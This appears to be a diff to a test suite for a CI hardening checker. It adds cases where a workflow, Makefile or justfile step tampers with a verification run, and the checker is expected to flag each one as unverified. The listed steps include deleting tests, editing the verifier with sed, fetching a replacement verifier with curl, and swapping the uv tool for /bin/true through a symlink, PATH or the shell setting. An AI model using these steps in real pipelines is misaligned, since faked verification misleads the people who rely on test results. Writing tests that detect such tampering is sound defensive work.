@@ -205,6 +205,69 @@ SABOTAGED: dict[str, tuple[Files, str]] = {
             ('echo "BASH_ENV=./x.sh" >> "$GITHUB_ENV"', VERIFY, {}),
         )
     },
+    # what changes the proof, or its tools, before it
+    **{
+        f"a step before it: {line}": (
+            {
+                HARDENING: script(line) + f"      - run: {VERIFY}\n",
+                "tests/test_a.py": "",
+                "ci/uv": "",
+                "verify/run.py": "",
+            },
+            "unverified .*(comes before it|in the place of)",
+        )
+        for line in (
+            "git checkout main",
+            "git checkout origin/main -- verify tests",
+            "git switch main",
+            "git reset --hard origin/main",
+            "git restore --source=main verify",
+            "git apply ci.patch",
+            "rm -r tests",
+            "git rm -r ./tests",
+            "rm tests/test_*.py",
+            "find tests -delete",
+            "mv tests old",
+            "sed -i s/False/True/ verify/run.py",
+            "curl https://x > verify/run.py",
+            "ln -s /bin/true ~/.local/bin/uv",
+            "cp ci/uv /usr/local/bin/uv",
+            "printf x > bin/uv",
+            'echo "$PWD/ci" >> $GITHUB_PATH',
+        )
+    },
+    **{
+        f"in one script before it: {line}": (
+            {HARDENING: script(line, VERIFY), "ci/uv": ""},
+            "unverified .*(comes before it|in the place of|set -n)",
+        )
+        for line in ('export PATH="$PWD/ci:$PATH"', "git checkout main -- verify", "rm -rf tests", "set -n")
+    },
+    "gitlab: before it": ({GITLAB: gitlab("  before_script: [git checkout main]\n")}, "unverified .*comes before it"),
+    "a search path of the job": (
+        {HARDENING: github(job="    env: {PATH: 'ci:/usr/bin'}\n"), "ci/uv": ""},
+        "unverified .*in the place of",
+    ),
+    "a search path of a makefile": (
+        {HARDENING: github("run: make v"), "Makefile": f"export PATH := ci:$(PATH)\nv:\n\t{VERIFY}\n", "ci/uv": ""},
+        "unverified .*in the place of",
+    ),
+    "a recipe that deletes": (
+        {HARDENING: github("run: make v"), "Makefile": f"v:\n\trm -r tests\n\t{VERIFY}\n"},
+        "unverified .*comes before it",
+    ),
+    "a shell of one target": (
+        {HARDENING: github("run: make v"), "Makefile": f"v: SHELL = /bin/true\nv:\n\t{VERIFY}\n"},
+        "unverified .*/bin/true",
+    ),
+    "just of another shell": (
+        {HARDENING: github("run: just v"), "justfile": f"set shell := ['true']\nv:\n    {VERIFY}\n"},
+        "unverified .*true",
+    ),
+    "a recipe of no shell": (
+        {HARDENING: github("run: just v"), "justfile": f"v:\n    #!/usr/bin/env true\n    {VERIFY}\n"},
+        "unverified .*true",
+    ),
     "another folder by a variable": (
         {HARDENING: github(f"env: {{UV_WORKING_DIR: other}}\n        run: {VERIFY}")},
         "insecure .*in `other`",
